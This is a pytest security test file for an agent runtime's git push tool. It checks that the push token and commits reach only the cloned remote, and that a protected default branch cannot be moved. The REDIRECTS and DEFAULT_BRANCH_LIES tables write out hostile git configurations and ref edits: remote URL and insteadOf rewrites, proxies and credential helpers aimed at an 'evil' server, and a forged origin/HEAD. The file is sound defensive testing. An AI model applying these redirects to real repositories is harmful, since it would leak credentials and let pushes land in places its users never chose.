"""Attacks 2 and 6 of issue #37: where a push (and its token) goes, and which branch it may move.

The origin is a git remote over loopback HTTP that wants the task's token, as GitHub does; a
second loopback server records every request anyone sends it. A sandboxed command rewrites
the workspace's idea of its remote (``url``, ``pushurl``, ``insteadOf``, proxies, a renamed
remote, a credential helper of its own, another repository on the same host), then the agent
commits and pushes and the approval preview, the read-back and the work-in-progress save run.
No request may reach the second server (so no credentials either), the origin may see only
its own repository, the token may appear in no output, and the push lands where Keel cloned
from. The same for a remote that answers with a redirect to the second server.

Then the protected branch: the remote's default branch is ``trunk``, and the workspace's own
``origin/HEAD`` (and every other way of naming a default branch locally) is rewritten to say
otherwise; ``git_push`` to ``trunk`` stays refused and ``trunk`` does not move.
"""

from __future__ import annotations

import shlex
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from runtime.tools.base import Completed
from runtime.tools.devbox import GitCommit, GitPush, WriteFile
from tests.ports import Credentials
from tests.security.kit import (
    Evil,
    GitOrigin,
    Host,
    Payloads,
    all_objects,
    assert_clean,
    branch_sha,
    context,
    git_config_sh,
    make_origin,
    new_workspace,
    preview,
    reconcile,
    run,
    save_work_in,
    serving,
    settle,
    workspace_texts,
    write_files_sh,
)

REPO = "acme/widgets"
OTHER = "acme/other"


@dataclass(frozen=True, slots=True)
class Remote:
    origin: GitOrigin
    evil: Evil
    served: Path

    @property
    def url(self) -> str:
        return f"{self.origin.url}/{REPO}.git"

    @property
    def bare(self) -> Path:
        return self.served / f"{REPO}.git"

    @property
    def token(self) -> str:
        return self.origin.token


@pytest.fixture
def remote(tmp_path: Path) -> Iterator[Remote]:
    served = tmp_path / "served"
    make_origin(served / f"{REPO}.git", {"README.md": "hello\n", "src/app.py": "1\n"})
    make_origin(served / f"{OTHER}.git", {"README.md": "another repository\n"})
    origin = GitOrigin(served, f"ghs_attack_{uuid.uuid4().hex}")
    with serving(origin), serving(Evil()) as evil:
        yield Remote(origin, evil, served)


Plan = Callable[[Remote, Payloads], str]


def _evil(remote: Remote) -> str:
    return f"{remote.evil.url}/{REPO}.git"


REDIRECTS: dict[str, Plan] = {
    "remote-url": lambda r, p: git_config_sh([("remote.origin.url", _evil(r))]),
    "pushurl": lambda r, p: git_config_sh([("remote.origin.pushurl", _evil(r))]),
    "insteadOf": lambda r, p: git_config_sh([(f"url.{_evil(r)}.insteadOf", r.url)]),
    "pushInsteadOf": lambda r, p: git_config_sh([(f"url.{_evil(r)}.pushInsteadOf", r.url)]),
    "insteadOf-prefix": lambda r, p: git_config_sh(
        [(f"url.{r.evil.url}/.insteadOf", f"{r.origin.url}/")]
    ),
    "http-proxy": lambda r, p: git_config_sh([("http.proxy", r.evil.url)]),
    "remote-proxy": lambda r, p: git_config_sh([("remote.origin.proxy", r.evil.url)]),
    "url-proxy": lambda r, p: git_config_sh([(f"http.{r.origin.url}/.proxy", r.evil.url)]),
    "other-repository-same-host": lambda r, p: git_config_sh(
        [("remote.origin.pushurl", f"{r.origin.url}/{OTHER}.git")]
    ),
    "renamed-remote": lambda r, p: (
        f"git remote rename origin upstream && git remote add origin {shlex.quote(_evil(r))}"
    ),
    "include-path": lambda r, p: (
        write_files_sh(
            {
                ".attack/remote.inc": (
                    f'[remote "origin"]\n\tpushurl = {_evil(r)}\n\turl = {_evil(r)}\n'
                )
            }
        )
        + "\n"
        + git_config_sh([("include.path", "../.attack/remote.inc")])
    ),
    "credential-helpers": lambda r, p: git_config_sh(
        [
            ("credential.helper", f"!{p('credential-helper', 'stdin')}"),
            (f"credential.{r.origin.url}.helper", f"!{p('credential-url-helper', 'stdin')}"),
            ("credential.useHttpPath", "true"),
            ("core.askPass", p("askpass")),
        ]
    ),
}


async def _commit_and_push(
    ws: Path, credentials: Credentials, sqlite_url: str, branch: str
) -> tuple[list[str], Completed, Completed]:
    outputs: list[str] = []
    push = GitPush(credentials=credentials)
    wrote = await settle(WriteFile(), {"path": "src/change.txt", "content": "x\n"}, context(ws))
    committed = await settle(GitCommit(), {"message": "a change"}, context(ws, "call-commit"))
    outputs += [wrote.output, committed.output]
    args = {"branch": branch}
    outputs.append(await preview(push, args, context(ws, "call-preview")))
    pushed = await settle(push, args, context(ws, "call-push"))
    outputs.append(pushed.output)
    outputs.append(await reconcile(push, args, context(ws, "call-push")))
    await settle(WriteFile(), {"path": "src/more.txt", "content": "y\n"}, context(ws))
    outputs.append(await save_work_in(sqlite_url, ws, GitCommit(), push))
    return outputs, committed, pushed


def _assert_token_stayed_home(
    remote: Remote, credentials: Credentials, ws: Path, host: Host, outputs: list[str]
) -> None:
    evil = remote.evil
    assert not evil.authorized(), f"credentials reached the second server: {evil.authorized()}"
    assert not evil.seen, f"requests reached the second server: {[s.path for s in evil.seen]}"
    strays = [s.path for s in remote.origin.seen if not s.path.startswith(f"/{REPO}.git/")]
    assert not strays, f"the origin's host was asked for another repository: {strays}"
    assert {url for _, url in credentials.asked} <= {remote.url}, credentials.asked
    assert_clean(outputs, [remote.token], where="a tool's output")
    assert_clean(workspace_texts(ws), [remote.token], where="the workspace")
    host.assert_untouched()
    assert branch_sha(remote.served / f"{OTHER}.git", "keel/attack") is None


@pytest.mark.parametrize("plant", list(REDIRECTS), ids=list(REDIRECTS))
async def test_push_and_token_go_only_to_the_cloned_remote_when_the_workspace_says_otherwise(
    tmp_path: Path, host: Host, sqlite_url: str, remote: Remote, plant: str
) -> None:
    credentials = Credentials(remote.token)
    workspaces, ws = await new_workspace(tmp_path / "ws", remote.url, token=remote.token)
    p = Payloads(ws)
    plan = REDIRECTS[plant](remote, p)
    script = "\n".join(["set -e", write_files_sh(p.files(host), p.executables()), plan, "echo ok"])
    planted = await run(workspaces.sandbox, ws, script)
    assert "exit code 0" in planted.output, planted.output

    outputs, committed, pushed = await _commit_and_push(ws, credentials, sqlite_url, "keel/attack")

    _assert_token_stayed_home(remote, credentials, ws, host, [planted.output, *outputs])
    assert_clean([all_objects(remote.bare)], [remote.token], where="what was pushed")
    # The push itself still works: from Keel's copy, to the URL Keel cloned from.
    assert not pushed.is_error, pushed.output
    assert committed.evidence, committed.output
    assert branch_sha(remote.bare, "keel/attack") == committed.evidence[0].ref
    assert any(s.credentials for s in remote.origin.seen)  # the token did reach its remote


async def test_token_never_follows_a_redirect_from_the_remote_to_another_server(
    tmp_path: Path, host: Host, sqlite_url: str, remote: Remote
) -> None:
    """The remote itself (a compromised or spoofed host, a misconfigured proxy in front of
    it) answers every request with a 302 to the second server: git must not follow it with
    the token, whatever ``http.followRedirects`` the workspace sets."""
    credentials = Credentials(remote.token)
    workspaces, ws = await new_workspace(tmp_path / "ws", remote.url, token=remote.token)
    planted = await run(workspaces.sandbox, ws, "git config http.followRedirects true && echo ok")
    remote.origin.redirect_to = remote.evil.url

    outputs, _, pushed = await _commit_and_push(ws, credentials, sqlite_url, "keel/redirected")

    _assert_token_stayed_home(remote, credentials, ws, host, [planted.output, *outputs])
    assert pushed.is_error  # the remote did not take it: nothing may claim it was pushed
    assert branch_sha(remote.bare, "keel/redirected") is None


# -- the protected default branch -------------------------------------------------------------

DEFAULT_BRANCH_LIES = {
    "origin-HEAD-to-decoy": "git symbolic-ref refs/remotes/origin/HEAD refs/remotes/origin/decoy",
    "origin-HEAD-deleted": "git symbolic-ref -d refs/remotes/origin/HEAD",
    "init-defaultBranch": (
        "git symbolic-ref -d refs/remotes/origin/HEAD; git config init.defaultBranch decoy"
    ),
    "remote-set-head": "git remote set-head origin decoy",
    "refs-files-edited": (
        "git pack-refs --all && rm -f .git/refs/remotes/origin/HEAD && "
        "sed -i 's#refs/remotes/origin/trunk$#refs/remotes/origin/gone#' .git/packed-refs && "
        "printf 'ref: refs/remotes/origin/decoy\\n' > .git/refs/remotes/origin/HEAD"
    ),
    "remote-renamed": "git remote rename origin upstream && git remote add origin /nowhere",
    "local-branch-renamed": "git branch -m trunk feature && git checkout -q -b main",
}


CASES = [(lie, None) for lie in DEFAULT_BRANCH_LIES] + [("origin-HEAD-to-decoy", "decoy")]


async def _trunk_workspace(tmp_path: Path, lie: str, ref: str | None) -> tuple[Path, Path]:
    """A clone of an origin whose default branch is ``trunk``, after ``lie``, with a commit."""
    origin = make_origin(
        tmp_path / "origin.git", {"README.md": "hello\n"}, branch="trunk", extra_branches=["decoy"]
    )
    workspaces, ws = await new_workspace(tmp_path / "ws", str(origin), ref=ref)
    planted = await run(workspaces.sandbox, ws, DEFAULT_BRANCH_LIES[lie] + " && echo lied")
    assert "lied" in planted.output, planted.output
    await settle(WriteFile(), {"path": "x.txt", "content": "x\n"}, context(ws))
    committed = await settle(GitCommit(), {"message": "x"}, context(ws))
    assert not committed.is_error, committed.output
    return origin, ws


@pytest.mark.parametrize(
    ("lie", "ref"), CASES, ids=[f"{lie}-{ref or 'default'}" for lie, ref in CASES]
)
async def test_push_to_the_remotes_default_branch_refused_when_the_workspace_names_another(
    tmp_path: Path, lie: str, ref: str | None
) -> None:
    origin, ws = await _trunk_workspace(tmp_path, lie, ref)
    trunk = branch_sha(origin, "trunk")

    for branch in ("trunk", "main", "master"):
        result = await settle(GitPush(), {"branch": branch}, context(ws))
        assert result.is_error and "protected" in result.output, (branch, result.output)

    assert branch_sha(origin, "trunk") == trunk
    assert branch_sha(origin, "main") is None and branch_sha(origin, "master") is None


async def test_default_branch_never_moves_when_named_sideways(tmp_path: Path) -> None:
    """Spellings of ``trunk`` that are not ``trunk``: none may move it."""
    origin, ws = await _trunk_workspace(tmp_path, "origin-HEAD-to-decoy", None)
    trunk = branch_sha(origin, "trunk")
    sideways = ("refs/heads/trunk", "heads/trunk", "./trunk", "trunk/", "-trunk", "trunk:trunk")
    results = [await settle(GitPush(), {"branch": branch}, context(ws)) for branch in sideways]
    assert all(r.is_error for r in results[2:]), [r.output for r in results]
    assert branch_sha(origin, "trunk") == trunk
